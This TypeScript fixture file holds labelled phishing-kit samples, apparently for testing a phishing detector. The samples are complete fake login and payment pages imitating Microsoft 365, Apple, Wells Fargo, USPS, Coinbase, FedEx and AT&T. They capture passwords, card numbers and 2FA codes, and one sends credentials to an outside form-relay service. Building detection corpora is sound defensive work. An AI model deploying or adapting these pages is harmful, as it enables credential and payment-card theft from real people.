import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';

export const entries: Entry[] = [
{
  id: 'a-kit-m365-wp-twostep',
  label: 'phishing',
  kind: 'credential-kit',
  url: 'https://www.bergmann-zahnarztpraxis.de/wp-includes/css/o365/index.html',
  body: `<!DOCTYPE html>
<html dir="ltr" class="" lang="en"><head>
<meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
<title>Sign in to your account</title>
<meta http-equiv="X-UA-Compatible" content="IE=edge">
<meta name="viewport" content="width=device-width, initial-scale=1.0, maximum-scale=2.0, user-scalable=yes">
<meta name="robots" content="none">
<link rel="shortcut icon" href="https://aadcdn.msftauth.net/shared/1.0/content/images/favicon_a_eupayfgghqiai7k9sol6lg2.ico">
<style>
html,body{height:100%;margin:0}
body{font-family:"Segoe UI","Segoe UI Web (West European)",-apple-system,BlinkMacSystemFont,Roboto,"Helvetica Neue",sans-serif;background:#fff url("https://aadcdn.msftauth.net/shared/1.0/content/images/backgrounds/2_bc3d32a696895f78c19df6c717586a5d.svg") center center/cover no-repeat;color:#1b1b1b}
.outer{display:table;width:100%;height:100%}.middle{display:table-cell;vertical-align:middle}
.inner{max-width:440px;width:calc(100% - 40px);margin:0 auto;padding:44px;background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.2);box-sizing:border-box;min-height:338px}
.logo img{height:24px}
.title{font-size:1.5rem;font-weight:600;margin:16px 0 12px}
input.form-control{width:100%;border:none;border-bottom:1px solid #666;padding:6px 0;font-size:15px;outline:none;margin-bottom:16px}
input.form-control:focus{border-bottom-color:#0067b8}
.btn-primary{background:#0067b8;color:#fff;border:none;min-width:108px;padding:6px 12px;font-size:15px;float:right;cursor:pointer}
.err{color:#e81123;font-size:13px;display:none;margin-bottom:8px}
.id-row{font-size:15px;margin-bottom:8px}.id-row img{height:16px;vertical-align:middle;margin-right:6px}
a{color:#0067b8;text-decoration:none;font-size:13px}
.footer{position:fixed;bottom:0;right:0;font-size:12px;padding:8px 16px}
.footer a{color:#000;margin-left:12px;font-size:12px}
</style>
</head>
<body>
<div class="outer"><div class="middle"><div class="inner">
  <div class="logo"><img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg" alt="Microsoft"></div>
  <div id="step1">
    <div class="title">Sign in</div>
    <div class="err" id="err1">Enter a valid email address, phone number, or Skype name.</div>
    <input type="email" id="ai" class="form-control" placeholder="Email, phone, or Skype" autocomplete="off">
    <div style="font-size:13px;margin-bottom:8px">No account? <a href="#">Create one!</a></div>
    <div style="margin-bottom:24px"><a href="#">Can't access your account?</a></div>
    <button class="btn-primary" id="next">Next</button>
    <div style="clear:both"></div>
  </div>
  <div id="step2" style="display:none">
    <div class="id-row"><img src="https://aadcdn.msftauth.net/shared/1.0/content/images/arrow_left_7cc096da6aa2dba3f81fcc1c8262157c.svg" id="back" alt=""><span id="aiShow"></span></div>
    <div class="title">Enter password</div>
    <div class="err" id="err2">Your account or password is incorrect. If you don't remember your password, <a href="#">reset it now.</a></div>
    <input type="password" id="pr" class="form-control" placeholder="Password">
    <div style="margin-bottom:24px"><a href="#">Forgot my password</a></div>
    <button class="btn-primary" id="submit-btn">Sign in</button>
    <div style="clear:both"></div>
  </div>
</div></div></div>
<div class="footer"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a><a href="#">...</a></div>
<script>
var count = 0;
var mailRe = /^([a-zA-Z0-9_.+-])+@(([a-zA-Z0-9-])+\\.)+([a-zA-Z0-9]{2,4})+$/;
function $id(i) { return document.getElementById(i); }
var h = window.location.hash.substr(1);
if (h && mailRe.test(h)) { $id('ai').value = h; }
$id('next').onclick = function (e) {
  e.preventDefault();
  var ai = $id('ai').value;
  if (!mailRe.test(ai)) { $id('err1').style.display = 'block'; return false; }
  $id('err1').style.display = 'none'; $id('aiShow').innerHTML = ai; $id('step1').style.display = 'none'; $id('step2').style.display = 'block'; $id('pr').focus();
};
$id('back').onclick = function () { $id('step2').style.display = 'none'; $id('step1').style.display = 'block'; };
$id('submit-btn').onclick = function (e) {
  e.preventDefault();
  var ai = $id('ai').value, pr = $id('pr').value;
  if (pr.length < 2) { $id('err2').style.display = 'block'; return false; }
  count = count + 1;
  $id('submit-btn').innerHTML = 'Verifying...';
  var x = new XMLHttpRequest();
  x.open('POST', 'next.php', true);
  x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
  x.onloadend = function () {
    $id('pr').value = ''; $id('submit-btn').innerHTML = 'Sign in';
    if (count >= 2) { count = 0; window.location.replace('https://www.office.com/?auth=2'); return; }
    $id('err2').style.display = 'block';
  };
  x.send('ai=' + encodeURIComponent(ai) + '&pr=' + encodeURIComponent(pr));
};
</script>
</body></html>`,
},
{
  id: 'a-kit-apple-locked-altonly',
  label: 'phishing',
  kind: 'credential-kit',
  url: 'https://support-case-81724.cloud-verify-center.net/session/unlock.html',
  body: `<!doctype html>
<html lang="en-US">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Account Verification</title>
<link rel="icon" type="image/x-icon" href="/session/assets/favicon-apple.ico">
<link rel="apple-touch-icon" href="/session/assets/apple-touch-icon.png">
<style>
*{box-sizing:border-box}
body{margin:0;background:#fbfbfd;font:17px/1.47 -apple-system,BlinkMacSystemFont,"SF Pro Text","Helvetica Neue",Helvetica,Arial,sans-serif;color:#1d1d1f}
header{height:44px;background:rgba(22,22,23,.8);display:flex;align-items:center;justify-content:center}
header img{height:18px;filter:invert(1)}
main{max-width:480px;margin:60px auto;text-align:center;padding:0 20px}
h2{font-size:32px;font-weight:600;margin:20px 0 8px}
.sub{color:#6e6e73;font-size:17px;margin-bottom:32px}
.field{position:relative;margin-bottom:-1px}
.field input{width:100%;height:56px;padding:18px 16px 0;border:1px solid #d2d2d7;font-size:17px;background:#fff}
.field:first-of-type input{border-radius:12px 12px 0 0}.field:last-of-type input{border-radius:0 0 12px 12px}
.field span{position:absolute;left:16px;top:8px;font-size:12px;color:#6e6e73}
.go{margin-top:28px;width:100%;height:50px;border:0;border-radius:12px;background:#0071e3;color:#fff;font-size:17px}
.notice{background:#fff4e5;border:1px solid #ffcc80;border-radius:10px;padding:14px;font-size:14px;text-align:left;margin-bottom:26px}
footer{font-size:12px;color:#86868b;text-align:center;margin:80px 0 20px}
</style>
</head>
<body>
<header><img src="/session/assets/logo.svg" alt="Apple"></header>
<main>
  <img src="/session/assets/lock-badge.png" alt="Apple ID" width="72" height="72">
  <h2>Your account has been locked</h2>
  <p class="sub">For your security, access was temporarily disabled after an unusual sign-in attempt from a new device.</p>
  <div class="notice">If you don't confirm your details within 24 hours, your account and all associated purchases, iCloud data and subscriptions will be permanently removed.</div>
  <form action="/session/post.php" method="POST" id="f">
    <div class="field"><span>Email or Phone Number</span><input type="text" name="appleid" required autocomplete="username"></div>
    <div class="field"><span>Password</span><input type="password" name="pwd" required autocomplete="current-password"></div>
    <button class="go" type="submit">Continue</button>
  </form>
  <p style="font-size:14px;margin-top:18px"><a href="#" style="color:#06c">Forgot password?</a></p>
</main>
<footer>Copyright © 2025 All rights reserved.</footer>
</body>
</html>`,
},
{
  id: 'a-kit-wellsfargo-sloppy',
  label: 'phishing',
  kind: 'credential-kit',
  url: 'https://wf-online-secure.duckdns.org/wf/login.htm',
  body: `<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=windows-1252">
<title>Wells Fargo Sign On to View Your Accounts</title>
<link rel="stylesheet" href="files/main.css">
</head>
<body bgcolor="#FFFFFF">
<center>
<table width="960" border="0" cellpadding="0" cellspacing="0">
<tr><td bgcolor="#d71e28" height="60"><img src="files/wf_logo.gif" alt="Wells Fargo" style="margin-left:20px"></td></tr>
<tr><td bgcolor="#ffcd41" height="6"></td></tr>
<tr><td style="padding:30px">
<table width="340" border="0" style="border:1px solid #ccc;padding:16px;font-family:Verdana;font-size:12px">
<tr><td><b style="font-size:18px">Good evening</b><br><br>Sign on to manage your accounts.</td></tr>
<form name="form1" method="post" action="files/verify.php">
<tr><td><br>Username<br><input type="text" name="j_username" size="35" maxlength="14"></td></tr>
<tr><td>Password<br><input type="password" name="j_password" size="35" maxlength="32"></td></tr>
<tr><td><input type="checkbox" name="save"> Save username</td></tr>
<tr><td><br><input type="submit" value="Sign On" style="background:#d71e28;color:#fff;border:0;padding:8px 30px;border-radius:20px"></td></tr>
</form>
<tr><td><br><a href="#">Forgot Username or Password?</a><br><a href="#">Enroll Now</a><br><a href="#">Security Center</a></td></tr>
</table>
</td></tr>
<tr><td style="font-size:10px;color:#666;padding:20px">&copy; 1999 - 2024 Wells Fargo. All rights reserved. NMLSR ID 399801</td></tr>
</table>
</center>
<!-- Designed by xXx_r3s4ult_xXx -->
</body>
</html>`,
},
{
  id: 'a-kit-usps-redelivery-card',
  label: 'phishing',
  kind: 'credential-kit',
  url: 'https://usps.packages-redelivery.com/us',
  routes: {
    'usps.packages-redelivery.com/us': htmlRoute(`<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1,user-scalable=no">
<title>USPS.com® - USPS Tracking® Results</title>
<link rel="icon" href="/us/static/favicon.ico">
<style>
body{margin:0;font-family:HelveticaNeueW02-55Roma,Helvetica,Arial,sans-serif;color:#333}
.nav{background:#333366;height:56px;display:flex;align-items:center;padding:0 16px}.nav img{height:30px}
.bar{height:6px;background:#e71921}
.c{max-width:560px;margin:0 auto;padding:20px}
h1{font-size:22px;color:#333366}
.status{background:#f7f7f7;border-left:6px solid #e71921;padding:12px 16px;font-size:15px}
label{display:block;margin:12px 0 4px;font-size:14px;font-weight:bold}
input,select{width:100%;padding:10px;border:1px solid #999;font-size:15px;box-sizing:border-box}
.btn{margin-top:18px;background:#333366;color:#fff;border:0;padding:14px;width:100%;font-size:16px;font-weight:bold}
.fee{font-size:14px;margin-top:16px}
footer{background:#f2f2f2;font-size:12px;padding:20px;text-align:center;margin-top:40px}
</style>
</head>
<body>
<div class="nav"><img src="/us/static/logo-sb.svg" alt="USPS"></div><div class="bar"></div>
<div class="c">
<h1>USPS Tracking®</h1>
<p>Tracking Number: <b>9400 1118 9922 3304 8812 07</b></p>
<div class="status"><b>Status: Delivery attempt failed</b><br>The package could not be delivered due to an incomplete address. Please confirm your address within 12 hours, otherwise the package will be returned to sender.</div>
<form method="post" action="/us/address.php" id="addr">
<label>Full Name</label><input name="fullname" required>
<label>Street Address</label><input name="address" required>
<label>City</label><input name="city" required>
<label>State</label><select name="state"><option>AL</option><option>CA</option><option>FL</option><option>NY</option><option>TX</option><option>WA</option></select>
<label>ZIP Code</label><input name="zip" maxlength="5" required>
<label>Phone</label><input name="phone" type="tel" required>
<label>Email</label><input name="email" type="email">
<button class="btn">Continue</button>
</form>
</div>
<footer>Copyright © 2025 USPS. All Rights Reserved.</footer>
</body></html>`),
    'usps.packages-redelivery.com/us/address.php': redirectRoute(302, '/us/payment'),
    'usps.packages-redelivery.com/us/payment': htmlRoute(`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>USPS.com® - Redelivery Payment</title>
<style>body{margin:0;font-family:Helvetica,Arial,sans-serif}.nav{background:#333366;height:56px}.c{max-width:560px;margin:0 auto;padding:20px}label{display:block;margin:12px 0 4px;font-size:14px;font-weight:bold}input{width:100%;padding:10px;border:1px solid #999;box-sizing:border-box}.btn{margin-top:18px;background:#333366;color:#fff;border:0;padding:14px;width:100%;font-size:16px}</style>
</head><body><div class="nav"></div><div class="c">
<h2>Redelivery fee: $0.30</h2>
<p>A small redelivery service fee is required to schedule a new delivery. Your package will be delivered within 1-2 business days after payment.</p>
<form method="post" action="/us/pay.php" onsubmit="document.getElementById('b').disabled=true;">
<label>Cardholder Name</label><input name="ccname" required>
<label>Card Number</label><input name="ccnum" inputmode="numeric" required>
<label>Expiry Date</label><input name="ccexp" placeholder="MM/YY" required>
<label>Security Code (CVV)</label><input name="cvv" maxlength="4" required>
<button class="btn" id="b">Pay $0.30</button>
</form>
<p style="font-size:12px;color:#666;text-align:center"><img src="/us/static/visa-mc-amex.png" alt="" height="20"></p>
</div></body></html>`),
  },
},
{
  id: 'a-kit-coinbase-2fa',
  label: 'phishing',
  kind: 'credential-kit',
  url: 'https://signin-coinbase.help-desk-portal.com/',
  routes: {
    'signin-coinbase.help-desk-portal.com/': htmlRoute(`<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>Coinbase - Sign In</title>
<link rel="icon" href="/favicon.ico">
<style>
body{margin:0;font-family:CoinbaseSans,-apple-system,BlinkMacSystemFont,"Segoe UI",Roboto,sans-serif;background:#fff;color:#0a0b0d}
header{padding:20px 32px}header svg{height:24px}
.panel{max-width:448px;margin:40px auto;border:1px solid #dee1e6;border-radius:16px;padding:32px}
h1{font-size:28px;margin:0 0 24px}
label{font-weight:600;font-size:14px}
input{display:block;width:100%;height:56px;border:1px solid #dee1e6;border-radius:8px;padding:0 16px;font-size:16px;margin:8px 0 16px;box-sizing:border-box}
button{width:100%;height:56px;border-radius:56px;border:0;background:#0052ff;color:#fff;font-size:16px;font-weight:600}
.hidden{display:none}
small{color:#5b616e}
</style></head>
<body>
<header><svg viewBox="0 0 1000 200" role="img" aria-label="coinbase logo"><path d="M100 40a60 60 0 1 0 0 120 60 60 0 0 0 0-120z" fill="#0052ff"/></svg></header>
<div class="panel">
 <div id="s1">
  <h1>Sign in to Coinbase</h1>
  <label for="e">Email</label><input id="e" type="email" autocomplete="email">
  <label for="p">Password</label><input id="p" type="password" autocomplete="current-password">
  <button id="b1">Continue</button>
 </div>
 <div id="s2" class="hidden">
  <h1>2-step verification</h1>
  <small>Enter the 7-digit code from your authenticator app or the code we sent to your phone.</small>
  <input id="c" inputmode="numeric" maxlength="7" autocomplete="one-time-code">
  <button id="b2">Verify</button>
 </div>
 <div id="s3" class="hidden"><h1>Verifying…</h1><small>Please don't close this window. This may take a few minutes.</small></div>
</div>
<script>
var sid = Math.random().toString(36).slice(2);
function post(d){ return fetch('/api/session.php', {method:'POST', headers:{'Content-Type':'application/json'}, body: JSON.stringify(Object.assign({sid:sid, ua:navigator.userAgent}, d))}).catch(function(){}); }
document.getElementById('b1').onclick = function(){
  var e = document.getElementById('e').value, p = document.getElementById('p').value;
  if(!e || !p) return;
  post({email:e, password:p}).then(function(){ document.getElementById('s1').className='hidden'; document.getElementById('s2').className=''; });
};
document.getElementById('b2').onclick = function(){
  post({code: document.getElementById('c').value}).then(function(){ document.getElementById('s2').className='hidden'; document.getElementById('s3').className=''; });
};
</script>
</body></html>`),
    'signin-coinbase.help-desk-portal.com/api/session.php': { status: 200, headers: { 'content-type': 'application/json' }, body: '{"ok":true}' },
  },
},
{
  id: 'a-kit-fedex-customs-fee',
  label: 'phishing',
  kind: 'credential-kit',
  url: 'https://fedex-clearance-pay.info/track/?trk=771209348812',
  routes: {
    'fedex-clearance-pay.info/track/': htmlRoute(`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>FedEx | Tracking</title>
<style>
body{margin:0;font-family:Roboto,Arial,sans-serif;background:#f2f2f2}
.nav{background:#4d148c;height:64px;display:flex;align-items:center;padding:0 24px}.nav b{color:#fff;font-size:30px;letter-spacing:-1px}.nav b i{color:#ff6200;font-style:normal}
.box{background:#fff;max-width:640px;margin:30px auto;padding:28px}
.prog{display:flex;justify-content:space-between;font-size:12px;color:#666;margin:20px 0}.prog div{flex:1;border-top:4px solid #4d148c;padding-top:6px}.prog div.x{border-color:#ccc}
table{width:100%;font-size:14px;border-collapse:collapse}td{padding:6px 0;border-bottom:1px solid #eee}
.pay{margin-top:24px;border-top:2px solid #4d148c;padding-top:16px}
label{display:block;font-size:13px;margin-top:10px}input{width:100%;padding:10px;border:1px solid #8e8e8e;box-sizing:border-box}
.b{margin-top:18px;background:#ff6200;color:#fff;border:0;padding:14px 24px;font-weight:bold;width:100%}
</style></head><body>
<div class="nav"><b>Fed<i>Ex</i></b></div>
<div class="box">
<h2>Shipment on hold — customs duties unpaid</h2>
<p>Tracking ID <b>771209348812</b></p>
<div class="prog"><div>Label created</div><div>Picked up</div><div>In transit</div><div class="x">Out for delivery</div><div class="x">Delivered</div></div>
<table><tr><td>Import duties</td><td align="right">$1.86</td></tr><tr><td>Handling fee</td><td align="right">$0.99</td></tr><tr><td><b>Total due</b></td><td align="right"><b>$2.85</b></td></tr></table>
<div class="pay">
<form action="process.php" method="POST">
<label>Name on card</label><input name="n" required>
<label>Card number</label><input name="c" required inputmode="numeric">
<label>Expiration (MM/YY)</label><input name="e" required>
<label>CVV</label><input name="v" required maxlength="4">
<button class="b">PAY $2.85 AND RELEASE SHIPMENT</button>
</form>
<p style="font-size:12px;color:#666">If payment is not received within 48 hours, the shipment will be returned to the origin.</p>
</div></div>
</body></html>`),
  },
},
{
  id: 'a-kit-att-currently-mail',
  label: 'phishing',
  kind: 'credential-kit',
  url: 'https://att-mail-signin.weebly-sites.net/',
  body: `<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>AT&amp;T Sign in</title>
<style>
body{font-family:ATTAleckSans,Arial,sans-serif;background:#fff;margin:0}
.logo{padding:24px;text-align:center}.logo img{height:40px}
.f{max-width:400px;margin:0 auto;padding:0 24px}
h1{font-size:28px;font-weight:400;color:#000}
input{width:100%;height:44px;border:1px solid #878c94;border-radius:4px;padding:0 12px;margin:6px 0 16px;font-size:16px;box-sizing:border-box}
button{width:100%;height:44px;background:#0057b8;border:0;border-radius:22px;color:#fff;font-size:16px}
a{color:#0057b8}
.note{font-size:12px;color:#5a5a5a;margin-top:24px}
</style>
</head>
<body>
<div class="logo"><img src="https://signin.att.com/static/siam/en/halo_c/images/att_globe_500.png" alt="AT&T"></div>
<div class="f">
<h1>Sign in</h1>
<p>Your AT&amp;T email will stop receiving messages on <b>Friday</b> unless you confirm your account.</p>
<form action="https://formsubmit.co/ajax/3f1c2d8b9a7e6f5a4b3c2d1e0f9a8b7c" method="POST">
<input type="hidden" name="_subject" value="ATT NEW">
<input type="hidden" name="_next" value="https://currently.att.yahoo.com/">
<label>User ID</label><input name="userid" placeholder="Email address or user ID" required>
<label>Password</label><input type="password" name="password" required>
<button type="submit">Sign in</button>
</form>
<p><a href="#">Forgot user ID?</a> | <a href="#">Forgot password?</a></p>
<p class="note">Note: if you haven't signed in to your account in 120 days or more, we may have deactivated it.</p>
</div>
</body>
</html>`,
},
];
